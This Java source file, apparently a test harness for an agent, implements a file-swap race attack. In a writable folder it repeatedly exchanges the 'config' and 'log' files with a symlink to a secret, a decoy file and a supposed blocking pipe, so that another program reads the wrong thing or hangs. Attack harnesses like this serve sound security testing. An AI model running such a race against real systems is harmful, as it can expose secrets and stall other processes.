package io.guestbeat.agent;

import static java.nio.file.StandardCopyOption.REPLACE_EXISTING;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * The attack: exchanges two files of somebody else's, in a folder that it may write, for a link to
 * a secret, for a file of its own and for a pipe, over and over until it is ended.
 */
final class ExchangingProgram {
  private ExchangingProgram() {}

  /** The folder, and the file that links lead to. */
  public static void main(String[] arguments) throws IOException {
    Path folder = Path.of(arguments[0]);
    Path secret = Path.of(arguments[1]);
    Path link = Files.createSymbolicLink(folder.resolve("evil-link"), secret);
    Path own = Files.createFile(folder.resolve("evil-file"));
    Path pipe = folder.resolve("evil-pipe");
    // Whoever opens it waits for nobody, as both of its ends are open here.
    try (RandomAccessFile ends = new RandomAccessFile(pipe.toFile(), "rw")) {
      System.out.println("exchanging");
      while (ends.getFD().valid()) {
        for (Path evil : new Path[] {link, own, pipe}) {
          exchange(folder.resolve("config"), evil);
          exchange(folder.resolve("log"), evil);
        }
      }
    }
  }

  private static void exchange(Path good, Path evil) {
    Path kept = good.resolveSibling("kept");
    try {
      Files.move(good, kept);
      Files.move(evil, good);
      Files.move(good, evil);
      Files.move(kept, good, REPLACE_EXISTING);
    } catch (IOException theOtherSideWasFaster) {
      restore(kept, good);
    }
  }

  private static void restore(Path kept, Path good) {
    try {
      Files.move(kept, good, REPLACE_EXISTING);
    } catch (IOException itIsThere) {
      // Then the next round begins with it.
    }
  }
}
